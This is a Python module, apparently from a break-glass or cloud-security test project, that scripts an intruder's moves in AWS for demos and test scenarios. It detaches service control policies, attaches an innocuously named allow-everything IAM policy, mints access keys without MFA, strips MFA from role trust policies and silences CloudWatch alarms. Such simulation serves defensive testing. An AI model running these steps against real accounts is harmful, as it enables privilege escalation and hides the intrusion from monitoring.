"""What an intruder with administrator rights would do, for the demo and the stories of the tests."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from breakglass.documents import Document, Json, text
from breakglass.resources import items

if TYPE_CHECKING:
    from mypy_boto3_cloudwatch import CloudWatchClient
    from mypy_boto3_iam import IAMClient
    from mypy_boto3_organizations import OrganizationsClient

HELPFUL = "HelpfulDefaults"
"""The policy the intruder attaches: everything, under a name that raises no eyebrow."""


def lift(organizations: OrganizationsClient, guardrail: str) -> tuple[str, ...]:
    """Take a service control policy off whatever it is upon; return from where."""
    listed = organizations.list_policies(Filter="SERVICE_CONTROL_POLICY")["Policies"]
    policies = [each["Id"] for each in listed if each["Name"] == guardrail]
    upon = [
        (policy, each["TargetId"])
        for policy in policies
        for each in organizations.list_targets_for_policy(PolicyId=policy)["Targets"]
    ]
    for policy, target in upon:
        organizations.detach_policy(PolicyId=policy, TargetId=target)
    return tuple(target for _, target in upon)


def attach_policy(iam: IAMClient, user: str) -> str:
    """Give a user every right there is; return the policy's ARN."""
    everything = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
    made = iam.create_policy(PolicyName=HELPFUL, PolicyDocument=json.dumps(everything))
    iam.attach_user_policy(UserName=user, PolicyArn=made["Policy"]["Arn"])
    return made["Policy"]["Arn"]


def make_access_key(iam: IAMClient, user: str) -> str:
    """Make a user a key that needs no password and no MFA; return its id."""
    return iam.create_access_key(UserName=user)["AccessKey"]["AccessKeyId"]


def weaken_trust(iam: IAMClient, role: str, trust: Document) -> None:
    """Let the role be assumed without MFA."""
    weak = {**trust, "Statement": [_without_mfa(each) for each in items(trust["Statement"])]}
    iam.update_assume_role_policy(RoleName=role, PolicyDocument=text(weak))


def switch_off(cloudwatch: CloudWatchClient, alarm: str) -> None:
    """Let an alarm go off without telling anybody."""
    cloudwatch.disable_alarm_actions(AlarmNames=[alarm])


def _without_mfa(statement: Json) -> Json:
    if not isinstance(statement, dict):
        return statement
    condition = statement.get("Condition")
    return {**statement, "Condition": {key: each for key, each in dict(condition or {}).items() if key != "Bool"}}
